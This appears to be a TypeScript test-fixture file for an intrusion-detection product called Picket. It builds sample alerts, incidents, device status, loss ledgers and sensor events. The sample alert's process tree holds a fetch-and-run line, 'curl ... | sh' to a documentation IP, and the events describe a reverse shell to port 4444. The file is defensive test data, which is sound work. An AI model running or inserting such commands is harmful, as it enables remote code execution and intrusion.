// Data in the shape of the protocol, for tests: alerts, devices, events of an invented site.
import type { Alert } from "@picket/protocol/alert";
import type { SensorEvent } from "@picket/protocol/event";
import type { Incident } from "@picket/protocol/incident";
import type { Ledger } from "@picket/protocol/ledger";
import type { CommandRecord, Device, SiteStatus } from "@picket/protocol/rest";
import type { OnlineStatus } from "@picket/protocol/status";
import { uuid5 } from "@picket/protocol/uuid5";

const boot = "4f3e2d1c-0b0a-4998-8877-665544332211";

export function madeAlert(name: string, over: Partial<Alert> = {}): Alert {
  const id = uuid5("test", name);
  return {
    id,
    site: "lab",
    device: "gw-014",
    timeMs: 1_700_000_000_000,
    rule: { id: "chain-reverse-shell", title: `Reverse shell ${name}`, engine: "correlation", author: "Picket authors" },
    severity: "high",
    score: 74,
    attack: { tactics: ["execution", "command-and-control"], techniques: ["T1059", "T1071"] },
    events: ["gw-014:k3m9x0qa:41", "gw-014:k3m9x0qa:42"],
    tree: [
      { depth: 0, pid: 1, exe: "/usr/lib/systemd/systemd", argv: ["/sbin/init"], matched: [] },
      { depth: 1, pid: 801, exe: "/usr/sbin/nginx", argv: ["nginx: worker process"], matched: [] },
      {
        depth: 2,
        pid: 4711,
        exe: "/usr/bin/bash",
        argv: ["sh", "-c", "curl -s http://203.0.113.9/x | sh"],
        matched: ["Shell started by an unusual parent"],
      },
      { depth: 3, pid: 4712, exe: "/usr/bin/bash", argv: ["bash", "-i"], matched: ["Outbound connection made by a shell"] },
    ],
    summary: "nginx started bash, which connected to 203.0.113.9:4444 and started another shell within 3 s.",
    count: 3,
    firstMs: 1_700_000_000_000,
    lastMs: 1_700_000_060_000,
    revision: 0,
    status: "open",
    notes: [],
    ...over,
  };
}

/** An incident of these alerts, the first of which says what it is called. */
export function madeIncident(id: string, alerts: readonly Alert[], over: Partial<Incident> = {}): Incident {
  const first = alerts[0]!;
  const { site, device, severity, score, attack, firstMs, lastMs, tree, summary, status, assignee, notes } = first;
  return {
    ...{ id, site, device, title: first.rule.title, severity, score, attack, firstMs, lastMs, tree, status, notes },
    ...{ alerts: alerts.length, events: alerts.reduce((sum, { count }) => sum + count, 0), story: [summary], linked: [], revision: 0 },
    ...(assignee === undefined ? {} : { assignee }),
    ...over,
  };
}

export function madeOnline(over: Partial<OnlineStatus> = {}): OnlineStatus {
  return {
    v: 1,
    state: "online",
    timeMs: 1_700_000_060_000,
    boot,
    epoch: "k3m9x0qa",
    version: "0.1.0",
    arch: "arm64",
    kernel: "6.1.0-rpi7-rpi-v8",
    uptimeS: 86_400,
    capabilities: [
      { name: "process", level: "live", why: "tracepoints" },
      { name: "network", level: "degraded", why: "syscalls:* tracepoints are missing.", todo: "Update the kernel to April 2025 or later." },
    ],
    isolation: { state: "off" },
    keysVersion: 1,
    produced: 1000,
    lost: { kernel: 0, shed: 0, buffer: 0 },
    buffer: { events: 0, bytes: 0 },
    epochs: [["k3m9x0qa", 990, 1000]],
    rssBytes: 45 << 20,
    cpuS: 12,
    ...over,
  };
}

export function madeDevice(id: string, over: Partial<Device> = {}): Device {
  return {
    id,
    trust: "enrolled",
    presence: "online",
    enrolledMs: 1_690_000_000_000,
    lastSeenMs: 1_700_000_060_000,
    certificateExpiresMs: 1_702_000_000_000,
    status: madeOnline(),
    isolationWanted: false,
    coverage: { stored: 1000, lost: 0, ratio: 1 },
    openAlerts: 0,
    ...over,
  };
}

/** A night with losses of every kind; what an hour does not name is zero. */
export function madeLedger(nowMs: number): Ledger {
  const zero = { stored: 0, kernel: 0, shed: 0, evicted: 0, power: 0, refused: 0, unexplained: 0, waiting: 0 };
  const row = (of: Partial<typeof zero>) => {
    const all = { ...zero, ...of };
    const lost = all.kernel + all.shed + all.evicted + all.power + all.refused + all.unexplained;
    const known = all.stored + lost;
    return { caused: known + all.waiting, ...all, ...(known > 0 ? { ratio: all.stored / known } : {}) };
  };
  const ago: Partial<typeof zero>[] = [
    { stored: 900, waiting: 60 },
    { waiting: 1000 },
    { waiting: 1000 },
    { stored: 500, evicted: 300, unexplained: 12 },
    { evicted: 1000 },
    { stored: 980, kernel: 20 },
    { stored: 9999, shed: 1 },
    { stored: 850, refused: 100 },
    { stored: 400, power: 300 },
    { stored: 10, kernel: 90 },
    ...Array.from({ length: 8 }, () => ({ stored: 1000 })),
  ];
  const hours = ago.map((of, hour) => ({ hourMs: (Math.floor(nowMs / 3600_000) - hour) * 3600_000, ...row(of) })).reverse();
  const sum = (key: keyof typeof zero) => hours.reduce((total, hour) => total + hour[key], 0);
  const totals = row(Object.fromEntries(Object.keys(zero).map((key) => [key, sum(key as keyof typeof zero)])));
  return { totals: { ...totals, evictedHit: 2, evictedResult: 0 }, hours };
}

export function madeSite(over: Partial<SiteStatus> = {}): SiteStatus {
  return {
    site: "lab",
    version: "0.1.0",
    startedMs: 1_690_000_000_000,
    devices: { enrolled: 1, online: 1, isolated: 0 },
    alerts: { open: 0, low: 0, medium: 0, high: 0, critical: 0 },
    log: { batches: 10, events: 1000, bytes: 20_000, nextOffset: 10 },
    detector: { connected: true, lagBatches: 0, cursor: 10, refused: 0 },
    deadLetters: 0,
    sinks: [],
    keysVersion: 1,
    anchor: "x".repeat(43),
    ...over,
  };
}

export function madeCommand(over: Partial<CommandRecord> = {}): CommandRecord {
  return {
    jti: "0f8fad5b-d9cb-469f-a165-70867728950e",
    device: "gw-014",
    act: "isolate",
    kid: "k".repeat(43),
    operator: "anna",
    state: "waiting",
    createdMs: 1_700_000_060_000,
    expiresMs: 1_700_086_460_000,
    ...over,
  };
}

const process = { pid: 4712, startTicks: 77, ppid: 4711, uid: 33, exe: "/usr/bin/bash", argv: ["bash", "-i"] };

export const madeEvents = (device = "gw-014"): SensorEvent[] => [
  { v: 1, device, epoch: "k3m9x0qa", seq: 41, timeMs: 1_700_000_000_000, type: "process.exec", body: { process } },
  {
    v: 1,
    device,
    epoch: "k3m9x0qa",
    seq: 42,
    timeMs: 1_700_000_001_000,
    type: "net.connect",
    body: { process, net: { proto: "tcp", dstIp: "203.0.113.9", dstPort: 4444 } },
  },
];
